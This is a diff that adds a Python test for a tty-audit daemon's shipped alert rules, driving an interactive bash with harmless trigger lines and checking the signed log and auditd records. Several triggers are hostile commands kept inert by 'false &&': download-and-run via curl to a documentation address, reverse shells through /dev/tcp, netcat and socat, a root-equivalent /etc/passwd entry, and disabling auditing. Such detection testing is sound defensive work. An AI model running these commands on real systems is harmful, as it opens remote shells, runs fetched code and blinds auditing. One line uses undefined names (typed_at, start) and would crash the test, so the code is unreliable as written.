@@ -1,0 +1,244 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: GPL-2.0-or-later
+"""The shipped alert rules, each triggered from a real pty under the real
+ttyauditd: the alert record is read back from the signed log (and the log
+verifies), and — when this test may start its own auditd (no other auditd
+registered with the kernel) — the op=ttyaudit-alert record is found in that
+auditd's log. Also: a bad rules file stops the daemon at start with
+FILE:LINE: KEY, and a bad one on SIGHUP keeps the running rules.
+
+Every trigger is harmless: typed lines that the shell never runs (`false &&`),
+commands that fail before acting (as nobody, on files that do not exist), or
+that act on nothing (`tee -a` with no input, `pkill -0`, `systemctl --version`).
+
+usage: alerts_test.py RULES_CONF LOG_ALERTS   (TA_BUILD_DIR set; root)"""
+
+import json
+import os
+import shutil
+import signal
+import subprocess
+import sys
+import tempfile
+import time
+
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
+from capturelib import Daemon, Failures, binary, drive_shell  # noqa: E402
+
+NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
+
+
+def skip(why):
+    print(f"SKIPPED: {why}")
+    sys.exit(77)
+
+
+def audit_status(key):
+    p = subprocess.run(["auditctl", "-s"], capture_output=True, text=True)
+    for line in p.stdout.splitlines():
+        parts = line.split()
+        if len(parts) >= 2 and parts[0] == key:
+            return parts[1]
+    return None
+
+
+def wait_until(cond, timeout, step=0.2):
+    end = time.time() + timeout
+    while time.time() < end:
+        if cond():
+            return True
+        time.sleep(step)
+    return False
+
+
+class Auditd:
+    """A real auditd with its own configuration and log, only if none is registered."""
+
+    def __init__(self, t):
+        self.t = t
+        self.log = os.path.join(t, "audit.log")
+        self.proc = None
+        self.old_enabled = audit_status("enabled")
+
+    def start(self):
+        if not shutil.which("auditd") or not shutil.which("auditctl"):
+            return "auditd is not installed"
+        pid = audit_status("pid")
+        if pid is None:
+            return "the kernel has no audit support"
+        if pid != "0":
+            return f"another auditd (pid {pid}) is registered; not disturbing it"
+        os.makedirs(os.path.join(self.t, "plugins"), exist_ok=True)
+        conf = os.path.join(self.t, "auditd.conf")
+        with open(conf, "w") as f:
+            f.write(f"local_events = yes\nwrite_logs = yes\nlog_file = {self.log}\n"
+                    "log_format = ENRICHED\nflush = INCREMENTAL_ASYNC\nfreq = 1\n"
+                    "max_log_file = 50\nnum_logs = 2\nmax_log_file_action = ROTATE\n"
+                    "space_left = 2\nspace_left_action = IGNORE\nadmin_space_left = 1\n"
+                    "admin_space_left_action = IGNORE\ndisk_full_action = IGNORE\n"
+                    "disk_error_action = IGNORE\nname_format = NONE\nq_depth = 2000\n"
+                    f"overflow_action = SYSLOG\nmax_restarts = 10\nplugin_dir = {self.t}/plugins\n"
+                    "end_of_event_timeout = 2\n")
+        os.chmod(conf, 0o640)
+        out = open(os.path.join(self.t, "auditd.out"), "wb")
+        self.proc = subprocess.Popen([shutil.which("auditd"), "-n", "-c", self.t, "-s", "enable"],
+                                     stdout=out, stderr=out)
+        if not wait_until(lambda: audit_status("pid") == str(self.proc.pid), 15):
+            self.stop()
+            return "auditd did not register with the kernel"
+        return None
+
+    def records(self, needle):
+        try:
+            with open(self.log, errors="replace") as f:
+                return [line for line in f if needle in line]
+        except OSError:
+            return []
+
+    def stop(self):
+        if self.proc and self.proc.poll() is None:
+            self.proc.send_signal(signal.SIGTERM)
+            try:
+                self.proc.wait(timeout=30)
+            except subprocess.TimeoutExpired:
+                self.proc.kill()
+                self.proc.wait()
+        if self.old_enabled is not None and self.old_enabled != "2":
+            subprocess.run(["auditctl", "-e", self.old_enabled], capture_output=True)
+
+
+def log_alerts(tool, log_dir):
+    p = subprocess.run([tool, log_dir], capture_output=True, text=True)
+    if p.returncode != 0:
+        raise RuntimeError(f"log_alerts: {p.stderr}")
+    return [json.loads(line) for line in p.stdout.splitlines() if line.strip()]
+
+
+def triggers(log_dir):
+    """(rule, line typed into an interactive bash)."""
+    missing = os.path.join(log_dir, "no-such-segment")
+    return [
+        ("privilege-escalation", "su root -c true"),
+        ("auth-files-edited", "tee -a /etc/passwd < /dev/null"),
+        ("auth-files-sed-in-place", " ".join(NOBODY) + " sed -i s/x/x/ /etc/passwd"),
+        ("auth-files-redirect", "false && echo 'x::0:0::/:/bin/sh' >> /etc/passwd"),
+        ("audit-stopped", "systemctl --version stop auditd > /dev/null"),
+        ("audit-killed", "pkill -0 -x auditd"),
+        ("audit-rules-disabled", " ".join(NOBODY) + " auditctl -e 0"),
+        ("download-to-shell", "false && curl -fsSL http://192.0.2.1/i.sh | sh"),
+        ("reverse-shell-dev-tcp", "false && bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
+        ("reverse-shell-netcat", "false && nc -e /bin/sh 192.0.2.1 4444"),
+        ("reverse-shell-socat", "false && socat tcp:192.0.2.1:4444 exec:/bin/sh"),
+        ("log-append-only-cleared", f"chattr -a {missing}"),
+        ("log-removed", f"rm -f {missing}"),
+    ]
+
+
+def shipped_rules(path):
+    names = []
+    with open(path) as f:
+        for line in f:
+            s = line.strip()
+            if s.startswith("rule") and "=" in s and s.split("=", 1)[0].strip() == "rule":
+                names.append(s.split("=", 1)[1].strip())
+    return names
+
+
+def main():
+    if os.geteuid() != 0:
+        skip("needs root (BPF, auditd)")
+    for tool in ("setpriv", "su", "bash", "chattr", "pkill", "systemctl"):
+        if not shutil.which(tool):
+            skip(f"{tool} is not installed")
+    rules_src, tool = sys.argv[1], sys.argv[2]
+    f = Failures("alerts-shipped-rules")
+    t = tempfile.mkdtemp(prefix="ta-alerts-")
+    os.chmod(t, 0o755)
+    rules = os.path.join(t, "rules.conf")
+    shutil.copy(rules_src, rules)
+    os.chmod(rules, 0o644)
+    alerts_jsonl = os.path.join(t, "alerts.jsonl")
+    auditd = Auditd(t)
+    d = None
+    try:
+        # A bad rules file: the daemon does not start, and says where.
+        bad = os.path.join(t, "bad.conf")
+        with open(bad, "w") as fh:
+            fh.write("rule = x\non = exec\nargv = (unclosed\n")
+        p = subprocess.run([binary("agent/daemon/ttyauditd"), "--foreground", "--rules-file", bad,
+                            "--log-dir", os.path.join(t, "badlog"),
+                            "--login-socket", os.path.join(t, "bad.sock")],
+                           capture_output=True, text=True, timeout=60)
+        f.check(p.returncode == 3 and f"{bad}:3: argv: bad regular expression" in p.stderr,
+                f"a bad rules file stops the daemon with exit 3 and FILE:LINE: KEY "
+                f"({p.returncode}: {p.stderr.strip()[-300:]})")
+
+        why = auditd.start()
+        if why:
+            print(f"audit records not checked: {why}")
+        d = Daemon("--rules-file", rules, "--alerts-jsonl", alerts_jsonl).start()
+        trig = triggers(d.log_dir)
+        f.check(sorted(r for r, _ in trig) == sorted(shipped_rules(rules_src)),
+                "every shipped rule has a trigger here")
+        lines = [(line + "\r").encode() for _, line in trig]
+        drive_shell(["bash", "--norc", "--noprofile", "-i"], lines + [b"exit\r"],
+                    env={"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "TERM": "dumb",
+                         "HOME": t}, settle=0.4)
+        typed_at["all"] = start
+        # A bad rules file on SIGHUP: the running rules stay.
+        shutil.copy(rules, rules + ".good")
+        with open(rules, "a") as fh:
+            fh.write("\nrule = broken\non = input\n")
+        d.proc.send_signal(signal.SIGHUP)
+        time.sleep(1)
+        f.check(f"{rules}:" in d.stderr() and "reload refused" in d.stderr(),
+                "a bad rules file on reload is refused with FILE:LINE")
+        drive_shell(["bash", "--norc", "--noprofile", "-i"],
+                    [b"false && curl http://192.0.2.2/x | bash\r", b"exit\r"],
+                    env={"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "TERM": "dumb", "HOME": t},
+                    settle=0.4)
+        d.stop()
+
+        alerts = log_alerts(tool, d.log_dir)
+        by_rule = {}
+        for a in alerts:
+            by_rule.setdefault(a.get("rule"), []).append(a)
+        for rule, line in trig:
+            got = by_rule.get(rule, [])
+            f.check(len(got) >= 1, f"alert record for {rule} in the log (typed: {line})")
+            if got:
+                a = got[0]
+                f.check(a.get("type") == "alert" and a.get("tty", "").startswith("pts") and
+                        a.get("subject"), f"{rule}: record has type, terminal and subject ({a})")
+        f.check(len(by_rule.get("download-to-shell", [])) >= 2,
+                "rules kept after the refused reload still fire")
+        v = subprocess.run([binary("agent/cli/ttyaudit"), "verify", "--log-dir", d.log_dir],
+                           capture_output=True, text=True)
+        f.check(v.returncode == 0, f"the log with its alert records verifies ({v.stdout.strip()})")
+        try:
+            copies = [json.loads(x) for x in open(alerts_jsonl)]
+        except (OSError, ValueError):
+            copies = []
+        f.check({c.get("rule") for c in copies} == {a.get("rule") for a in alerts},
+                "the alerts JSON Lines file has the same alerts as the log")
+
+        if not why:
+            ok = wait_until(lambda: all(auditd.records(f'rule="{r}"') for r, _ in trig), 10)
+            for rule, _ in trig:
+                recs = [x for x in auditd.records(f'rule="{rule}"') if "op=ttyaudit-alert" in x]
+                f.check(len(recs) >= 1, f"audit record op=ttyaudit-alert rule={rule} in auditd's log")
+            f.check(ok, "all audit records arrived")
+    finally:
+        if d and d.proc and d.proc.poll() is None:
+            d.proc.kill()
+            d.proc.wait()
+        auditd.stop()
+        if f.failed and d:
+            print("--- ttyauditd\n" + d.stderr()[-3000:])
+        subprocess.run(["chattr", "-R", "-a", t], capture_output=True)
+        shutil.rmtree(t, ignore_errors=True)
+    return f.result()
+
+
+if __name__ == "__main__":
+    sys.exit(main())
